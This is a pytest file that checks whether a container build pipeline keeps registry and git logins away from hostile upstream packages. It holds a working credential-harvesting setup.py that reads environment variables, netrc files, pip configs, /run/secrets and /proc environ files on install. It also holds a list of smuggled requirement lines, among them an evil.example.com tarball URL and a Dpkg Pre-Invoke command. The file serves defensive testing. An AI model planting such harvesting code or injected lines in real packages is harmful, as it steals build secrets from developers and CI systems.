"""A wheel of a hostile upstream: its code runs in a build that has logins, and has none of them."""

from __future__ import annotations

import json
import shutil
import subprocess
import zipfile
from ast import literal_eval
from collections.abc import Iterator
from pathlib import Path

import pytest

from stacks.config.fetching.build_logins import BuildLoginConfig, netrc_files
from stacks.config.fetching.mirrors import MirrorsConfig
from stacks.config.stack_file import ROOT
from tests.fakes.package_index import wheel
from tests.images.engine import build, docker, unique

DOCKERFILES = ROOT / "dockerfiles"
PASSWORDS = {"pypi.example.com": "canary-of-the-index", "git.example.com": "canary-of-git"}

THIEF = """
import glob, json, os

def thief():
    loot = {"environment": dict(os.environ), "files": {}}
    places = ["/dev/netrc", os.path.expanduser("~/.netrc"), "/root/.netrc", "/root/.config/pip/pip.conf", "/etc/pip.conf"]
    for pattern in ("/run/secrets/*", "/dev/shm/**", "/tmp/**", "/var/tmp/**", "/proc/[0-9]*/environ", "/proc/[0-9]*/root/dev/netrc"):
        places += glob.glob(pattern, recursive=True)
    for place in places:
        try:
            with open(place, "rb") as stream:
                loot["files"][place] = stream.read(1 << 20).decode(errors="replace")
        except OSError:
            pass
    return json.dumps(loot)
"""

SETUP = f"""{THIEF}
from setuptools import setup

open("loot.py", "w").write("LOOT = " + repr(thief()))
setup(name="torchtext", version="1.0", py_modules=["loot"])
"""

BASE = """ARG BASE_IMAGE
FROM ${BASE_IMAGE}
RUN --mount=type=bind,from=layers,target=/srv --mount=type=tmpfs,target=/tmp \\
    ["/srv/apt-install", "ca-certificates", "python3-pip", "python3-setuptools", "python3-venv", "python3-wheel"]
COPY *.whl /wheels/
RUN python3 -m venv --system-site-packages /opt/venv && /opt/venv/bin/pip install --no-index --find-links /wheels torch
ENV PATH=/opt/venv/bin:${PATH}
ENV CUDA_VERSION=13.2.1
"""


@pytest.fixture(scope="module")
def base(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """An image with an environment to build in, and a torch."""
    context = tmp_path_factory.mktemp("base")
    wheel(context, "torch", "2.15.0")
    shutil.copytree(DOCKERFILES / "common/layers", context / "layers")
    text = BASE.replace("bind,from=layers", "bind,source=layers")
    (context / "base").mkdir()
    (context / "base/Dockerfile").write_text(text)
    name = unique("hostile-base")
    done = build(name, {}, context=context, image="base")
    assert done.returncode == 0, done.stdout
    yield name
    docker("rmi", "--force", name)


@pytest.fixture
def secrets(tmp_path: Path) -> list[str]:
    """The options that give a build the logins of two hosts, as `slipway:buildSecrets` does."""
    logins = {host: BuildLoginConfig(username="ci", variable="UNUSED") for host in PASSWORDS}
    mirrors = MirrorsConfig(python_index="https://pypi.example.com/simple", git="https://git.example.com")
    options = []
    for name, text in netrc_files(logins, PASSWORDS, mirrors).items():
        (tmp_path / name).write_text(text)
        options.append(f"--secret=id={name},src={tmp_path / name}")
    return options


def source_image(folder: Path, files: dict[str, str]) -> str:
    """Make the image of a component's source."""
    for path, text in files.items():
        file = folder / "src" / path
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_text(text)
    (folder / "Dockerfile").write_text("FROM scratch\nCOPY src /src\n")
    name = unique("hostile-source")
    docker("build", "--tag", name, folder)
    return name


@pytest.mark.slow
def test_setup_of_hostile_source_steals_no_login(tmp_path: Path, base: str, secrets: list[str]) -> None:
    source = source_image(tmp_path / "source", {"setup.py": SETUP})
    out = tmp_path / "out"
    arguments = {"BASE_IMAGE": base, "SOURCE_IMAGE": source, "COMPONENT": "text", "ARCH_LIST": ""}
    done = build("", arguments, *secrets, "--target=wheel", f"--output=type=local,dest={out}", image="wheels")
    docker("rmi", "--force", source)
    assert done.returncode == 0, done.stdout
    (built,) = (out / "dist").glob("*.whl")
    with zipfile.ZipFile(built) as archive:
        text = archive.read("loot.py").decode()
    loot = json.loads(literal_eval(text.removeprefix("LOOT = ")))
    assert "COMPONENT" in loot["environment"]
    assert loot["files"]
    assert "NETRC" not in loot["environment"]
    for stolen in (text, done.stdout):
        assert [password for password in PASSWORDS.values() if password in stolen] == []


HOSTILE = [
    "./evil",
    "-e .",
    "--no-binary :all:",
    "evil @ https://evil.example.com/evil.tar.gz",
    "evil --config-settings=x=y",
    "evil\x0b./src",
    "file:evil",
    "-o Dpkg::Pre-Invoke::=cat",
    "evil\\",
]


@pytest.mark.parametrize("line", HOSTILE)
@pytest.mark.parametrize("end", ["", "\n"])
@pytest.mark.parametrize("name", ["packages", "requirements", "later"])
def test_hostile_need_is_not_given_to_pip_or_apt(tmp_path: Path, line: str, end: str, name: str) -> None:
    """What a source needs is installed in a step with logins, which no code of it may reach."""
    for each in ("packages", "requirements", "later"):
        (tmp_path / each).write_text("")
    (tmp_path / name).write_text(f"good\n{line}{end}")
    (tmp_path / "pip").write_text(f"#!/bin/sh\ntouch {tmp_path}/called\n")
    (tmp_path / "pip").chmod(0o755)
    environment = {"COMPONENT": "torch", "MAGMA_ARCHIVE": "", "PATH": f"{tmp_path}:/usr/bin:/bin"}
    command = [str(DOCKERFILES / "wheels/install-needs"), str(tmp_path), str(tmp_path / "wheels")]
    done = subprocess.run(command, check=False, env=environment, capture_output=True, text=True)
    assert done.returncode == 1
    assert "which is not the name of a package" in done.stderr
    assert not (tmp_path / "called").exists()
